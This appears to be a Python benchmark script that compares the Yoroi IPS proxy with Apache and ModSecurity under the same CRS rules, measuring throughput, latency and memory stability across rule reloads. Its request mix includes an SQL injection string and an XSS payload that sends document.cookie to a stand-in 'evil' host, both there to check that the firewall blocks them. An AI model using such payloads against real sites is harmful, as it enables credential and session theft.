"""Yoroi's IPS proxy against Apache + mod_security2, same CRS, same upstream, same requests.

Everything runs on loopback on this machine:

- *upstream*: a tiny asyncio HTTP/1.1 server (this script, ``_upstream PORT``) answering every
  request with the same 1 KiB HTML body, keep-alive;
- *apache*: Debian's Apache (event MPM, 2 processes x 32 threads) with ``mod_proxy_http`` and
  Debian's ``mod_security2`` in a private ServerRoot, loading the same files as Yoroi's engine:
  Yoroi's engine configuration (``SecRuleEngine On``, body limits, JSON/XML processors), the same
  CRS settings at paranoia level 1, Yoroi's ``crs-setup.conf``, Yoroi's virtual patches, the CRS
  3.3.4 rules of ``/usr/share/modsecurity-crs`` (without REQUEST-910, which Yoroi skips) and
  Yoroi's body checks;
- *yoroi*: ``yoroi ips proxy --workers 2 --rules /usr/share/modsecurity-crs``. Its stderr is
  read: a reload is counted from its log line, and any "inspector failed" line (the proxy failing
  open, so that part of the exchange went uninspected) is counted and reported.

Measured: a correctness pass (every request of the mix once through each proxy: benign ones
must get 200, attacks 403); throughput (``wrk``, 1 thread, ``--connections`` connections,
``--duration`` s, a Lua script cycling through the mix) with the proxy's CPU time; latency at one
connection (p50/p99), the *added* p50 being the proxy's less the upstream's own; and reload
stability: ``--reloads`` SIGHUPs to Yoroi (each sent once both workers logged the previous
reload, at least ``--pace`` s apart) under light load, the workers' RSS/PSS sampled.

Goals (issue #5): requests/s >= 1.0x Apache+ModSecurity; added p50 <= 2 ms; memory stable over
1,000 rule reloads.

    .venv/bin/python benchmarks/ips_vs_apache_modsecurity.py [--quick] [--json-out F] [--markdown]

Needs root (Apache's user switch) and ``apt-get install -y apache2 libapache2-mod-security2 wrk``.
"""

from __future__ import annotations

import argparse
import asyncio
import http.client
import json
import os
import re
import shutil
import signal
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import IO, Any

import psutil

sys.path.insert(0, str(Path(__file__).resolve().parent))
from _common import machine, markdown_table, print_table, tool_version, write_json  # noqa: E402

CRS = Path("/usr/share/modsecurity-crs")
INSTALL = "apt-get install -y apache2 libapache2-mod-security2 wrk"
APACHE_MODULES = Path("/usr/lib/apache2/modules")
BODY = (b"<!doctype html><html><head><title>ok</title></head><body><p>"
        + b"Lorem ipsum dolor sit amet. " * 34 + b"</p></body></html>\n")[:1024]
RELOAD_LINE = re.compile(r"rules reloaded \((\d+)\)")


@dataclass(frozen=True)
class Req:
    """One request of the mix and the status both proxies must answer."""

    name: str
    method: str
    path: str
    headers: tuple[tuple[str, str], ...] = ()
    body: str = ""
    expect: int = 200


FORM = (("Content-Type", "application/x-www-form-urlencoded"),)
JSON = (("Content-Type", "application/json"), ("Accept", "application/json"))
BROWSER = (("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"),
           ("Accept", "text/html,application/xhtml+xml"), ("Accept-Language", "en-GB,en;q=0.8"))
MIX = (
    Req("get /", "GET", "/", BROWSER),
    Req("get page", "GET", "/blog/2024/05/a-post.html?utm_source=news&ref=home", BROWSER),
    Req("get search", "GET", "/search?q=blue+running+shoes&page=2&sort=price_asc", BROWSER),
    Req("get api", "GET", "/api/v1/orders/4711?fields=id,total,items", JSON[1:]),
    Req("get static", "GET", "/static/css/site.min.css?v=3.2.1", BROWSER),
    Req("post form", "POST", "/contact", BROWSER + FORM,
        "name=Mary+O%27Brien&email=mary%40example.org&message=It%27s+about+my+order+%234711"),
    Req("post login", "POST", "/login", BROWSER + FORM, "user=alice&password=s3cret%21&next=%2F"),
    Req("post json", "POST", "/api/v1/orders", JSON,
        '{"customer": "alice", "items": [{"sku": "A-1", "qty": 2}, {"sku": "B-7", "qty": 1}],'
        ' "note": "Leave it at the neighbour\'s door"}'),
    Req("get wp rest", "GET", "/wp-json/wp/v2/posts?per_page=10&_embed=1", JSON[1:]),
    Req("post wp comment", "POST", "/wp-json/wp/v2/comments", JSON,
        '{"post": 12, "author_name": "Bob", "content": "Great post, thanks! Can\'t wait."}'),
    Req("attack sqli", "GET", "/products?id=1%27%20UNION%20SELECT%20username,password%20"
        "FROM%20users--", BROWSER, expect=403),
    Req("attack xss", "POST", "/comment", BROWSER + FORM,
        "text=%3Cscript%3Edocument.location%3D%27http%3A%2F%2Fevil%2F%27%2Bdocument.cookie"
        "%3C%2Fscript%3E", expect=403),
)


# -- the upstream (run as `ips_vs_apache_modsecurity.py _upstream PORT`) ----------------------

async def _answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    head = (b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n"
            b"Content-Length: %d\r\n\r\n" % len(BODY)) + BODY
    try:
        while True:
            request = await reader.readuntil(b"\r\n\r\n")
            await _drain_body(reader, request.lower())
            writer.write(head)
            await writer.drain()
    except (asyncio.IncompleteReadError, ConnectionError, asyncio.LimitOverrunError):
        pass
    finally:
        writer.close()


async def _drain_body(reader: asyncio.StreamReader, head: bytes) -> None:
    if found := re.search(rb"\r\ncontent-length:\s*(\d+)", head):
        await reader.readexactly(int(found[1]))
    elif re.search(rb"\r\ntransfer-encoding:[^\r]*chunked", head):
        while size := int((await reader.readuntil(b"\r\n")).split(b";")[0], 16):
            await reader.readexactly(size + 2)
        await reader.readuntil(b"\r\n")  # no trailers from the proxies under test


def serve_upstream(port: int) -> None:
    """The upstream until killed."""
    async def main() -> None:
        server = await asyncio.start_server(_answer, "127.0.0.1", port, backlog=1024)
        await server.serve_forever()

    asyncio.run(main())


# -- processes ------------------------------------------------------------------------------

def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def wait_listening(port: int, proc: subprocess.Popen[bytes], what: str,
                   timeout: float = 60) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            sys.exit(f"{what} exited with status {proc.returncode} before listening")
        with socket.socket() as sock:
            if sock.connect_ex(("127.0.0.1", port)) == 0:
                return
        time.sleep(0.1)
    sys.exit(f"{what} did not listen on 127.0.0.1:{port} within {timeout:.0f} s")


def stop(proc: subprocess.Popen[bytes], sig: int = signal.SIGTERM) -> None:
    if proc.poll() is None:
        proc.send_signal(sig)
        try:
            proc.wait(20)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()


def apache_config(root: Path, port: int, upstream: int, paranoia: int = 1) -> Path:
    """A private Apache configuration: event MPM, reverse proxy, mod_security2 + the CRS."""
    from yoroi.modules.ips.crs import RuleSet
    from yoroi.modules.ips.engine import settings_rule

    rules = RuleSet.from_crs(CRS)
    settings = settings_rule({"paranoia_level": paranoia, "executing_paranoia_level": paranoia,
                              "inbound_anomaly_score_threshold": 5,
                              "outbound_anomaly_score_threshold": 4})
    (root / "yoroi-settings.conf").write_text(settings)
    (root / "data").mkdir()
    (root / "tmp").mkdir()
    shutil.chown(root / "data", "www-data", "www-data")
    shutil.chown(root / "tmp", "www-data", "www-data")
    includes = [rules.engine_config, root / "yoroi-settings.conf", *rules.files()[1:]]
    modules = ["mpm_event", "authz_core", "unique_id", "proxy", "proxy_http", "security2"]
    lines = [f"LoadModule {m}_module {APACHE_MODULES}/mod_{m}.so" for m in modules] + [
        f"ServerRoot {root}", "ServerName localhost", f"Listen 127.0.0.1:{port}",
        f"PidFile {root}/apache2.pid", f"ErrorLog {root}/error.log", "LogLevel warn",
        "User www-data", "Group www-data", f"DefaultRuntimeDir {root}", f"Mutex file:{root}",
        "KeepAlive On", "MaxKeepAliveRequests 0", "KeepAliveTimeout 30", "Timeout 60",
        "StartServers 2", "ServerLimit 2", "ThreadsPerChild 32", "MaxRequestWorkers 64",
        "MinSpareThreads 32", "MaxSpareThreads 64", "MaxConnectionsPerChild 0",
        f"SecDataDir {root}/data", f"SecTmpDir {root}/tmp",
        *[f"Include {path}" for path in includes],
        f"ProxyPass / http://127.0.0.1:{upstream}/ keepalive=On",
        f"ProxyPassReverse / http://127.0.0.1:{upstream}/",
    ]
    conf = root / "apache2.conf"
    conf.write_text("\n".join(lines) + "\n")
    return conf


@contextmanager
def running(argv: list[str], port: int, what: str,
            **popen: Any) -> Iterator[subprocess.Popen[bytes]]:
    proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL, **popen)
    try:
        wait_listening(port, proc, what)
        yield proc
    finally:
        stop(proc)


# -- clients --------------------------------------------------------------------------------

def send(port: int, req: Req, conn: http.client.HTTPConnection | None = None) -> int:
    """The status of one request (a fresh connection unless one is given)."""
    own = conn is None
    conn = conn or http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        conn.request(req.method, req.path, body=req.body.encode() or None,
                     headers=dict(req.headers))
        response = conn.getresponse()
        response.read()
        return response.status
    finally:
        if own:
            conn.close()


def correctness(port: int) -> dict[str, int]:
    return {req.name: send(port, req) for req in MIX}


def lua_string(text: str) -> str:
    return '"' + "".join(
        ch if ch.isprintable() and ch not in '"\\' else f"\\{ord(ch):03d}" for ch in text) + '"'


def wrk_script(path: Path) -> Path:
    """A wrk Lua script cycling through the mix and counting statuses per thread."""
    formatted = []
    for req in MIX:
        headers = ", ".join(f"[{lua_string(k)}] = {lua_string(v)}" for k, v in req.headers)
        body = lua_string(req.body) if req.body else "nil"
        formatted.append(f"wrk.format({lua_string(req.method)}, {lua_string(req.path)}, "
                         f"{{{headers}}}, {body})")
    path.write_text(WRK_LUA.replace("@REQUESTS@", ",\n    ".join(formatted)))
    return path


WRK_LUA = """
local threads = {}
function setup(thread) table.insert(threads, thread) end
function init(args)
  statuses = {}
  n = 0
  reqs = {
    @REQUESTS@
  }
end
function request()
  n = n + 1
  return reqs[(n % #reqs) + 1]
end
function response(status, headers, body)
  statuses[status] = (statuses[status] or 0) + 1
end
function done(summary, latency, requests)
  local merged = {}
  for _, t in ipairs(threads) do
    for k, v in pairs(t:get("statuses")) do merged[k] = (merged[k] or 0) + v end
  end
  local parts = {}
  for k, v in pairs(merged) do table.insert(parts, string.format('"%d": %d', k, v)) end
  local e = summary.errors
  io.write(string.format(
    'RESULT {"requests": %d, "duration_us": %d, "p50_us": %d, "p90_us": %d, "p99_us": %d, '
    .. '"mean_us": %.1f, "errors": {"connect": %d, "read": %d, "write": %d, "status": %d, '
    .. '"timeout": %d}, "statuses": {%s}}\\n',
    summary.requests, summary.duration, latency:percentile(50), latency:percentile(90),
    latency:percentile(99), latency.mean, e.connect, e.read, e.write, e.status, e.timeout,
    table.concat(parts, ", ")))
end
"""


def tree_cpu(pid: int) -> float:
    total = 0.0
    try:
        root = psutil.Process(pid)
        for proc in [root, *root.children(recursive=True)]:
            times = proc.cpu_times()
            total += times.user + times.system
    except psutil.Error:
        pass
    return total


def run_wrk(port: int, script: Path, connections: int, duration: float,
            server_pid: int | None) -> dict[str, Any]:
    cpu_before = tree_cpu(server_pid) if server_pid else 0.0
    argv = ["wrk", "-t1", f"-c{connections}", f"-d{duration:.0f}s", "--timeout", "10s",
            "-s", str(script), f"http://127.0.0.1:{port}/"]
    done = subprocess.run(argv, capture_output=True, text=True, check=True)
    line = next(x for x in done.stdout.splitlines() if x.startswith("RESULT "))
    result: dict[str, Any] = json.loads(line.removeprefix("RESULT "))
    result["rps"] = result["requests"] / (result["duration_us"] / 1e6)
    if server_pid:
        result["server_cpu_s"] = tree_cpu(server_pid) - cpu_before
        result["server_cpu_ms_per_req"] = 1000 * result["server_cpu_s"] / result["requests"]
    return result


# -- reload stability -------------------------------------------------------------------------

class LineWatcher(threading.Thread):
    """Reads Yoroi's stderr, counting reload lines (every worker logs each reload)."""

    def __init__(self, stream: IO[bytes]) -> None:
        super().__init__(daemon=True)
        self.stream = stream
        self.reloads = 0
        self.failures = self.inspector_failures = 0
        self.tail: list[str] = []
        self.changed = threading.Condition()

    def run(self) -> None:
        for raw in self.stream:
            line = raw.decode("utf-8", "replace").rstrip()
            with self.changed:
                if RELOAD_LINE.search(line):
                    self.reloads += 1
                elif "reload failed" in line:
                    self.failures += 1
                elif "the inspector failed" in line:
                    self.inspector_failures += 1
                self.tail = (self.tail + [line])[-20:]
                self.changed.notify_all()

    def wait_for(self, count: int, timeout: float) -> bool:
        with self.changed:
            return self.changed.wait_for(lambda: self.reloads + self.failures >= count, timeout)


class LightLoad(threading.Thread):
    """One keep-alive client sending the mix every ``every`` seconds; counts what went wrong."""

    def __init__(self, port: int, every: float = 0.01) -> None:
        super().__init__(daemon=True)
        self.port, self.every = port, every
        self.sent = self.wrong = self.errors = 0
        self._done = threading.Event()

    def run(self) -> None:
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
        while not self._done.is_set():
            req = MIX[self.sent % len(MIX)]
            try:
                self.wrong += send(self.port, req, conn) != req.expect
            except (OSError, http.client.HTTPException):
                self.errors += 1
                conn.close()
                conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
            self.sent += 1
            self._done.wait(self.every)
        conn.close()

    def stop(self) -> None:
        self._done.set()
        self.join()


def worker_memory(supervisor: int) -> dict[str, float]:
    rss = pss = 0
    for proc in psutil.Process(supervisor).children():
        info = proc.memory_full_info()
        rss += info.rss
        pss += info.pss
    return {"rss_mb": rss / 1e6, "pss_mb": pss / 1e6}


def reload_stability(proc: subprocess.Popen[bytes], watcher: LineWatcher, port: int,
                     reloads: int, pace: float, workers: int) -> dict[str, Any]:
    load = LightLoad(port)
    load.start()
    samples = [{"reload": 0, **worker_memory(proc.pid)}]
    durations: list[float] = []
    started = time.monotonic()
    for n in range(1, reloads + 1):
        sent = time.monotonic()
        proc.send_signal(signal.SIGHUP)
        if not watcher.wait_for(n * workers, 60):
            sys.exit(f"reload {n} did not complete within 60 s; log tail: {watcher.tail}")
        durations.append(time.monotonic() - sent)
        time.sleep(max(0.0, pace - (time.monotonic() - sent)))
        if n % 10 == 0:
            samples.append({"reload": n, **worker_memory(proc.pid)})
    wall = time.monotonic() - started
    load.stop()
    return summarise_reloads(samples, durations, wall, load, watcher)


def summarise_reloads(samples: list[dict[str, float]], durations: list[float], wall: float,
                      load: LightLoad, watcher: LineWatcher) -> dict[str, Any]:
    warm = next((s for s in samples if s["reload"] >= 100), samples[-1])
    last = samples[-1]
    return {
        "reloads": len(durations), "failed": watcher.failures, "wall_s": wall,
        "reload_s_median": statistics.median(durations), "reload_s_max": max(durations),
        "rss_before_mb": samples[0]["rss_mb"], "rss_warm_mb": warm["rss_mb"],
        "rss_after_mb": last["rss_mb"], "rss_peak_mb": max(s["rss_mb"] for s in samples),
        "pss_before_mb": samples[0]["pss_mb"], "pss_warm_mb": warm["pss_mb"],
        "pss_after_mb": last["pss_mb"],
        "growth_after_warm_pct": 100 * (last["rss_mb"] / warm["rss_mb"] - 1),
        "growth_total_pct": 100 * (last["rss_mb"] / samples[0]["rss_mb"] - 1),
        "light_load": {"sent": load.sent, "wrong_status": load.wrong, "errors": load.errors},
        "samples": samples,
    }


# -- the benchmark ------------------------------------------------------------------------------

def parse_args(argv: list[str] | None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--duration", type=float, default=20, help="s per throughput run")
    parser.add_argument("--latency-duration", type=float, default=10, help="s per 1-conn run")
    parser.add_argument("--connections", type=int, default=32)
    parser.add_argument("--repeat", type=int, default=3, help="runs of each; median kept")
    parser.add_argument("--workers", type=int, default=2, help="Yoroi workers")
    parser.add_argument("--reloads", type=int, help="SIGHUPs to Yoroi (default 1000)")
    parser.add_argument("--pace", type=float, default=0.02, help="min s between reloads")
    parser.add_argument("--quick", action="store_true", help="5 s runs, 1 repeat, 50 reloads")
    parser.add_argument("--reload-only", action="store_true",
                        help="only the correctness check and the reload stability run")
    parser.add_argument("--yoroi-env", action="append", default=[], metavar="NAME=VALUE",
                        help="extra environment for Yoroi, e.g. MALLOC_ARENA_MAX=1")
    parser.add_argument("--json-out", type=Path)
    parser.add_argument("--markdown", action="store_true", help="also print Markdown tables")
    parser.add_argument("--keep", action="store_true", help="keep the work directory")
    parser.add_argument("--py-spy", help="a py-spy binary: profile one Yoroi worker under load")
    parser.add_argument("--profile-out", type=Path, default=Path("ips-yoroi-worker.pyspy.txt"),
                        help="where py-spy's folded stacks go")
    parser.add_argument("--yoroi", default=str(Path(sys.executable).with_name("yoroi")))
    args = parser.parse_args(argv)
    if args.quick:
        args.duration, args.latency_duration, args.repeat = 5, 5, 1
    if args.reloads is None:
        args.reloads = 50 if args.quick else 1000
    return args


def main(argv: list[str] | None = None) -> None:
    if len(sys.argv) == 3 and sys.argv[1] == "_upstream":
        serve_upstream(int(sys.argv[2]))
        return
    args = parse_args(argv)
    if os.geteuid() != 0:
        sys.exit("run as root: Apache switches to www-data")
    if not shutil.which("wrk") or not (APACHE_MODULES / "mod_security2.so").exists() \
            or not shutil.which("apache2"):
        sys.exit(f"missing apache2, mod_security2 or wrk; install them with: {INSTALL}")
    workdir = Path(tempfile.mkdtemp(prefix="yoroi-ips-bench-"))
    os.chmod(workdir, 0o755)
    try:
        results = benchmark(args, workdir)
    finally:
        if not args.keep:
            shutil.rmtree(workdir, ignore_errors=True)
    report(results, args.markdown)
    if args.json_out:
        write_json(args.json_out, results)


def benchmark(args: argparse.Namespace, workdir: Path) -> dict[str, Any]:
    script = wrk_script(workdir / "mix.lua")
    up_port, ap_port, yo_port = free_port(), free_port(), free_port()
    (workdir / "apache").mkdir()
    conf = apache_config(workdir / "apache", ap_port, up_port)
    results: dict[str, Any] = {"machine": machine(), "versions": versions(args),
                               "settings": settings(args), "load_before": os.getloadavg()}
    upstream_argv = [sys.executable, __file__, "_upstream", str(up_port)]
    yoroi_argv = [args.yoroi, "--home", str(workdir / "home"), "-v", "ips", "proxy",
                  "--listen", f"127.0.0.1:{yo_port}", "--upstream", f"http://127.0.0.1:{up_port}",
                  "--workers", str(args.workers), "--rules", str(CRS)]
    apache_argv = ["apache2", "-f", str(conf), "-DFOREGROUND"]
    with running(upstream_argv, up_port, "upstream") as upstream, \
            running(apache_argv, ap_port, "apache") as apache, \
            running(yoroi_argv, yo_port, "yoroi", stderr=subprocess.PIPE,
                    env=os.environ | dict(e.split("=", 1) for e in args.yoroi_env)) as yoroi:
        assert yoroi.stderr is not None
        watcher = LineWatcher(yoroi.stderr)
        watcher.start()
        targets = {"upstream": (up_port, upstream.pid), "apache": (ap_port, apache.pid),
                   "yoroi": (yo_port, yoroi.pid)}
        results["correctness"] = {name: correctness(port) for name, (port, _) in targets.items()
                                  if name != "upstream"}
        if not args.reload_only:
            load_tests(results, targets, script, args, yoroi.pid, yo_port)
        results["reload"] = reload_stability(yoroi, watcher, yo_port, args.reloads, args.pace,
                                             args.workers)
        results["inspector_failures"] = watcher.inspector_failures
        results["apache_error_log_lines"] = len(
            (workdir / "apache" / "error.log").read_text(errors="replace").splitlines())
    results["load_after"] = os.getloadavg()
    return results


def load_tests(results: dict[str, Any], targets: dict[str, tuple[int, int]], script: Path,
               args: argparse.Namespace, yoroi: int, port: int) -> None:
    for target_port, _ in targets.values():  # warm-up: caches, pools, worker threads
        run_wrk(target_port, script, args.connections, 3, None)
    results["throughput"] = repeated(targets, script, args.connections, args.duration,
                                     args.repeat)
    results["latency"] = repeated(targets, script, 1, args.latency_duration, args.repeat)
    if args.py_spy:
        results["profile"] = profile(args.py_spy, yoroi, port, script, args)


def repeated(targets: dict[str, tuple[int, int]], script: Path, connections: int,
             duration: float, repeat: int) -> dict[str, Any]:
    """Each target ``repeat`` times, interleaved; every run and the run of median req/s."""
    runs: dict[str, list[dict[str, Any]]] = {name: [] for name in targets}
    for _ in range(repeat):
        for name, (port, pid) in targets.items():
            runs[name].append(run_wrk(port, script, connections, duration, pid))
    return {name: {"median": sorted(r, key=lambda x: x["rps"])[len(r) // 2], "runs": r}
            for name, r in runs.items()}


def profile(py_spy: str, supervisor: int, port: int, script: Path,
            args: argparse.Namespace) -> dict[str, Any]:
    worker = psutil.Process(supervisor).children()[0].pid
    spy = subprocess.Popen([py_spy, "record", "--pid", str(worker), "--duration",
                            f"{args.duration:.0f}", "--rate", "200", "--format", "raw",
                            "--output", str(args.profile_out), "--native"],
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    run_wrk(port, script, args.connections, args.duration, None)
    spy.wait()
    return {"worker": worker, "folded_stacks": str(args.profile_out)}


def versions(args: argparse.Namespace) -> dict[str, str]:
    from importlib.metadata import version

    def deb(name: str) -> str:
        return subprocess.run(["dpkg-query", "-W", "-f=${Version}", name], capture_output=True,
                              text=True, check=False).stdout or "not installed"

    return {"yoroi": tool_version([args.yoroi, "--version"]),
            "libmodsecurity (wheel)": version("libmodsecurity"), "h11": version("h11"),
            "apache2": deb("apache2"), "libapache2-mod-security2": deb("libapache2-mod-security2"),
            "modsecurity-crs": deb("modsecurity-crs"), "wrk": deb("wrk")}


def settings(args: argparse.Namespace) -> dict[str, Any]:
    return {"connections": args.connections, "duration_s": args.duration,
            "latency_duration_s": args.latency_duration, "repeat": args.repeat,
            "yoroi_workers": args.workers, "apache": "event MPM, 2 x 32 threads",
            "reloads": args.reloads, "pace_s": args.pace, "yoroi_env": args.yoroi_env,
            "mix": [r.name for r in MIX], "body_bytes": len(BODY)}


def rows(results: dict[str, Any]) -> list[list[object]]:
    thr, lat = results["throughput"], results["latency"]
    base_rps = thr["apache"]["median"]["rps"]
    base_p50 = lat["upstream"]["median"]["p50_us"] / 1000
    table: list[list[object]] = []
    for name in ("upstream", "apache", "yoroi"):
        t, one = thr[name]["median"], lat[name]["median"]
        p50 = one["p50_us"] / 1000
        table.append([
            name if name != "upstream" else "upstream (direct)", t["rps"],
            f"{t['rps'] / base_rps:.2f}×", t["p50_us"] / 1000, t["p99_us"] / 1000,
            t.get("server_cpu_ms_per_req"), p50, one["p99_us"] / 1000,
            None if name == "upstream" else p50 - base_p50,
            ", ".join(f"{k}:{v}" for k, v in sorted(t["statuses"].items())),
        ])
    return table


HEADERS = ["target", "req/s", "vs apache", "p50 ms", "p99 ms", "CPU ms/req", "1-conn p50 ms",
           "1-conn p99 ms", "added p50 ms", "statuses"]


def report(results: dict[str, Any], markdown: bool) -> None:
    print(json.dumps({k: results[k] for k in ("machine", "versions", "settings")}, indent=1))
    print("correctness:", json.dumps(results["correctness"]))
    print("yoroi inspector failures (fail-open):", results["inspector_failures"])
    if "throughput" in results:
        print_table(HEADERS, rows(results))
    reload = {k: v for k, v in results["reload"].items() if k != "samples"}
    print("reload:", json.dumps(reload, indent=1))
    if markdown and "throughput" in results:
        print(markdown_table(HEADERS, rows(results)))


if __name__ == "__main__":
    main()
